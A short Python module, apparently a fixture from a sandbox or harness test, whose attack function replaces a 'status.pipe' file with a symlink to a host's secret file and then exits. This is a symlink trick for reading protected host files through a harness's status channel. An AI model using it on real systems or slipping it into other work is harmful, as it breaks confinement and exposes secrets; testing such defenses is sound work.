"""Puts a link to a file of the host where its status pipe was."""

import os

from support.leaving import leave


def attack(target):
    os.unlink("status.pipe")
    os.symlink(target["secret_file"], "status.pipe")
    leave()
